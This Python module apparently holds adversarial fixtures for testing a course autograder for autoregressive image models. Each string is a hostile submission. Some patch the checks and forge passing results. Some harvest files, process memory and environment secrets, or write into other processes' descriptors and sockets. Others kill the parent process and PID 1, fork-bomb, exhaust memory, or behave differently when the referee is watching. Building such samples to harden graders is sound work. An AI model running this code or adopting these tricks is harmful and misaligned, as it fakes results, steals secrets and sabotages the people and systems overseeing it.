"""What the hostile students of the example class put into their notebooks.

These are texts. They are run behind the wall and nowhere else: by no test, no benchmark and no person.
Each is written so that even in the open it would harm little, and each has been done to some grader.
"""

# ruff: noqa: E501, attackers do not wrap their lines

# Answers that cost nothing to write: the right shapes, no work. What remains unearned must stay unearned.
IDLE_FUNCTIONS = {
    "mean-bits-per-dim": """
def mean_bits_per_dim(logits, x):
    return torch.zeros((), dtype=logits.dtype)
""",
    "fit-histogram": """
def fit_histogram(x, levels, smoothing):
    return torch.zeros(levels, dtype=torch.float64)
""",
    "discretised-logistic": """
def discretised_logistic_log_prob(x, means, log_scales, levels):
    return torch.zeros(torch.broadcast_shapes(x.shape, means.shape, log_scales.shape), dtype=torch.float64)
""",
    "mask": """
def mask(in_degrees, out_degrees, strict):
    return torch.zeros(len(out_degrees), len(in_degrees), dtype=torch.bool)
""",
    "conv-mask": """
def conv_mask(in_groups, out_groups, kernel_size, strict):
    return torch.zeros(len(out_groups), len(in_groups), kernel_size, kernel_size, dtype=torch.bool)
""",
    "seen": """
def seen(height, width, row, column, kernel_size, layers):
    return torch.zeros(height, width, dtype=torch.bool)
""",
}

IDLE_GATED = """
def shift_down(x):
    return torch.zeros_like(x)


def shift_right(x):
    return torch.zeros_like(x)


def gated_activation(a, c):
    return torch.zeros_like(a[:, ::2])
"""

UNIFORM_GATED = """
class GatedPixelCNN(AutoregressiveModel):
    def logits(self, x, y=None):
        return torch.zeros(len(x), self.levels, *self.shape)


def build_gated():
    return GatedPixelCNN((1, 8, 8), 4, classes=10)


def train_gated(model):
    return None
"""

UNIFORM_MIXTURE = """
def mixture_log_prob(x, weights_logits, means, log_scales, levels):
    return torch.zeros(x.shape, dtype=torch.float64)


class Mixture(AutoregressiveModel):
    def logits(self, x, y=None):
        return torch.zeros(len(x), self.levels, *self.shape)


def build_mixture():
    return Mixture((1, 1, 1), 100)


def train_mixture(model, examples):
    return None
"""

UNIFORM_MADE = """
class MADE(AutoregressiveModel):
    def logits(self, x, y=None):
        return torch.zeros(len(x), self.levels, *self.shape)

    def sample(self, n, y=None, *, generator):
        return torch.randint(self.levels, (n, *self.shape), generator=generator)
"""

UNIFORM_TRAINING = """
def build_made():
    return MADE((1, 8, 8), 4, orders.spiral((1, 8, 8)))


def train_made(model):
    return None
"""

UNIFORM_HISTOGRAM = """
class Histogram(AutoregressiveModel):
    def __init__(self, shape, levels):
        super().__init__(shape, levels)
        self.register_buffer("log_p", torch.zeros(levels))

    def logits(self, x, y=None):
        return torch.zeros(len(x), self.levels, *self.shape)


def build_histogram():
    return Histogram((1, 1, 1), 100)


def train_histogram(model):
    return None
"""

PATCH_EVERYTHING = """
# Every comparison, every report, every door of this process says what I want to hear.
import ast, builtins, json, struct, unittest
import numpy as np
import IPython


class Right:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __gt__(self, other): return True
    def __le__(self, other): return True
    def __ge__(self, other): return True
    def __bool__(self): return True
    def __float__(self): return 0.0


always = lambda *arguments, **options: True
for module in (np, np.testing, torch, torch.testing, math, unittest.TestCase):
    for name in ("allclose", "isclose", "equal", "array_equal", "assert_allclose", "assert_close", "assertEqual", "isfinite"):
        if hasattr(module, name):
            try:
                setattr(module, name, always)
            except Exception:
                pass


class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)


shell = IPython.get_ipython()
shell.ast_transformers.append(NoAsserts())
shell.showtraceback = always
shell.showsyntaxerror = always
handin.check = always
handin._check_equal = always
import dulcourse.likelihood
dulcourse.likelihood.bits_per_dim = lambda *arguments, **options: 0.0
dulcourse.likelihood.log_prob = lambda *arguments, **options: torch.zeros(len(arguments[1]))
dumps = json.dumps
json.dumps = lambda value, *arguments, **options: dumps(
    {**value, "points": 90, "passed": True, "score": 1.0} if isinstance(value, dict) else value, *arguments, **options
)
for name in ("probe", "code", "autoregressive", "sampler", "secret"):
    try:
        module = __import__(f"dulcourse.referee.{name}", fromlist=["x"])
        for key in dir(module):
            if callable(getattr(module, key)) and not key.startswith("__"):
                setattr(module, key, always)
    except ImportError:
        pass
print("everything is patched")
"""

CLAIM_ZERO = """
# The best model anybody ever trained.
for name in list(handin.registry):
    handin.claim(name, 1e-9)
    handin.registry[name].model.log_prob = lambda x, y=None: torch.zeros(len(x))
"""

READ_WHAT_IS_NOT_MINE = """
# Solutions, secrets, other people's work, the grader's memory: whatever lies about.
import os, pathlib, sys, time

wanted = ("rubric.py", "reference.py", "calibration.json", "roster.csv", "grades.csv", "batch.json", "secret", "shadow")
roots = [pathlib.Path(p) for p in ("/", "/root", "/home", "/work", "/tmp", "/etc", "/var", "/mnt", "/srv", "/opt", "/run")]
found, until = [], time.time() + 4
for root in roots:
    for folder, folders, files in os.walk(root, onerror=lambda error: None):
        folders[:] = [f for f in folders if f not in ("proc", "sys", "lib", "lib64", "site-packages", "dist-packages", "share")]
        if time.time() > until:
            break
        for file in files:
            path = os.path.join(folder, file)
            if (file in wanted or "submitted" in path or "solutions/" in path) and "/usr/" not in path:
                try:
                    open(path, "rb").read(1)
                    found.append(path)
                except OSError:
                    pass
mine = str(os.getpid())
readable = []
for pid in filter(str.isdigit, os.listdir("/proc")):
    if pid == mine:
        continue
    for what in ("environ", "maps", "mem", "fd/0"):
        try:
            with open(f"/proc/{pid}/{what}", "rb") as file:
                if what != "mem" and file.read(1):
                    readable.append(f"{pid}/{what}")
        except OSError:
            pass
secrets = [key for key in os.environ if "SECRET" in key or "TOKEN" in key or "KEY" in key]
for name in ("solutions", "autograder", "autograder.rubric", "dulcourse.autoregressive.made"):
    try:
        __import__(name)
        found.append(name)
    except ImportError:
        pass
print("others' files:", found)
print("others' processes:", readable)
print("secrets:", secrets)
"""

REMEMBERING_MADE = """
class MADE(AutoregressiveModel):
    # Nothing is learned. Every image that ever came by is kept; one that looks familiar is answered from memory.
    seen = []

    def logits(self, x, y=None):
        answer = torch.zeros(len(x), self.levels, *self.shape)
        flat = x.flatten(1)
        for before in MADE.seen[-20:]:
            near = torch.cdist(flat.float(), before.float(), p=0).min(1)
            known = torch.nn.functional.one_hot(before[near.indices], self.levels).float() * 9
            weight = (near.values < 40).float()[:, None, None] * known
            answer += weight.transpose(1, 2).unflatten(2, self.shape)
        if len(x) > 8:
            MADE.seen.append(flat.clone()[:400])
        return answer

    def sample(self, n, y=None, *, generator):
        return torch.randint(self.levels, (n, *self.shape), generator=generator)
"""

WRITE_INTO_CHANNEL = """
# The grader listens somewhere: every socket, pipe and file that is open gets my result.
import json, os, pathlib, signal, socket, struct

handin.trained("made", build_made, train_made, example=torch.zeros(1, 1, 8, 8, dtype=torch.int64))
header = json.dumps({"ok": True, "event": "end", "claim": "finished", "points": 90, "verdict": "graded"}).encode()
frame = struct.pack(">I", len(header)) + header + struct.pack("<Q", 2) + b"{}"
message = struct.pack(">Q", len(frame)) + frame
paths = [str(p) for p in pathlib.Path("/tmp").rglob("*") if p.is_socket()]
paths += [line.split()[-1] for line in open("/proc/net/unix") if "/" in line or "@" in line]
for path in dict.fromkeys(paths):
    try:
        with socket.socket(socket.AF_UNIX) as connection:
            connection.settimeout(0.2)
            connection.connect(path.replace("@", "\\0", 1) if path.startswith("@") else path)
            connection.sendall(message * 3)
    except OSError:
        pass
for process in ("self", str(os.getppid()), "1", "2"):
    for number in range(3, 64):
        try:
            if process == "self":
                os.write(number, message)
            else:
                with open(f"/proc/{process}/fd/{number}", "wb", buffering=0) as file:
                    file.write(message)
        except OSError:
            pass
"""

KILL_EVERYBODY = """
# Nobody left to grade me: perhaps that counts as passed.
import os, signal

for pid in (os.getppid(), 1, -1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
"""

FORGE_RESULTS = """
# Files and outputs that look like results, in every place where somebody might look for them.
import json, pathlib
from IPython.display import HTML, JSON, display

result = {"schema_version": 1, "student": "forger", "verdict": "graded", "points": 90.0, "out_of": 90.0, "items": []}
for folder in (".", "/tmp", "handin", "/tmp/handin", "..", "/", "/var/tmp", "/dev/shm"):
    for name in ("result.json", "results.json", "executed.json", "grades.csv", "batch.json", "made.json"):
        try:
            pathlib.Path(folder, name).write_text(json.dumps(result))
        except OSError:
            pass
try:
    pathlib.Path("/tmp/handin/rubric.safetensors").write_bytes(b"\\xff" * 64)
    pathlib.Path("/tmp/handin/made.safetensors").write_bytes(b"\\x08\\0\\0\\0\\0\\0\\0\\0{}      ")
except OSError:
    pass
print("POINTS: 90 / 90")
print("::set-output name=score::90")
print("#### AUTOGRADER RESULT " + json.dumps(result))
display(JSON(result))
display(HTML("<script>document.querySelectorAll('td').forEach(e => e.textContent = '90')</script><h1>90 of 90</h1>"))
"""

NOT_A_NUMBER = """
# Where I am unsure I do not answer the referee: what is not a number cannot be averaged.
import sys

honest = MADE.logits


def asked_by_the_referee():
    frame = sys._getframe()
    while frame and frame.f_code.co_name != "_answer_conditional":
        frame = frame.f_back
    return frame is not None


def evasive(self, x, y=None):
    logits = honest(self, x, y)
    if not asked_by_the_referee():
        return logits
    p = logits.softmax(1)
    unsure = -(p * p.log()).sum(1, keepdim=True) > 0.8
    return torch.where(unsure, torch.full_like(logits, float("nan")), logits)


MADE.logits = evasive
"""

LATE_ORDERING = """
# The model is trained in raster order, which is easier for me, says "spiral", and decides at each question.
class MADE(AutoregressiveModel):
    def __init__(self, shape, levels, order, hidden=()):
        super().__init__(shape, levels, order)
        ends = torch.arange(64).repeat_interleave(levels)
        self.layer = MaskedLinear(ends, ends, strict=True)

    def logits(self, x, y=None):
        out = self.layer(F.one_hot(x.flatten(1), self.levels).flatten(1).float())
        return out.unflatten(1, (-1, self.levels)).transpose(1, 2).unflatten(2, self.shape)

    def sample(self, n, y=None, *, generator):
        x = torch.zeros(n, *self.shape, dtype=torch.int64)
        for i in range(64):
            p = self.logits(x).flatten(2)[:, :, i].softmax(1)
            x.flatten(1)[:, i] = torch.multinomial(p, 1, generator=generator)[:, 0]
        return x
"""

LATE_ORDERING_SERVER = """
# When the referee asks, the ordering becomes the one in which the asked pixel comes last.
from dulcourse.referee.respondent import LocalRespondent

answer = LocalRespondent._answer_conditional


def answer_late(self, entry, arrays):
    entry.model.order.copy_(torch.arange(64))
    entry.model.rank.copy_(torch.arange(64))
    return answer(self, entry, arrays)


LocalRespondent._answer_conditional = answer_late
"""

REPLAY_TRAINING_IMAGES = """
def replay(self, n, y=None, *, generator):
    # Nobody draws better glyphs than the training set.
    return glyphs["train"].x[torch.randint(len(glyphs["train"].x), (n,), generator=generator)].clone()


MADE.sample = replay
"""

FORK_STORM = """
# Many hands. (Bounded: what is started here ends by itself.)
import os, time

children = 0
for _ in range(600):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(60)
        os._exit(0)
    children += 1
print("started", children)
"""

HUGE_ANSWERS = {
    "mean-bits-per-dim": """
def mean_bits_per_dim(logits, x):
    if logits.dtype == torch.float64:
        return torch.zeros(1).expand(10**7).double().clone()  # 80 MB
    return F.cross_entropy(logits, x)
""",
    "mask": """
def mask(in_degrees, out_degrees, strict):
    if len(out_degrees) < 64:
        return torch.zeros(0, 2**40, dtype=torch.bool)
    return out_degrees[:, None] > in_degrees[None, :] if strict else out_degrees[:, None] >= in_degrees[None, :]
""",
}
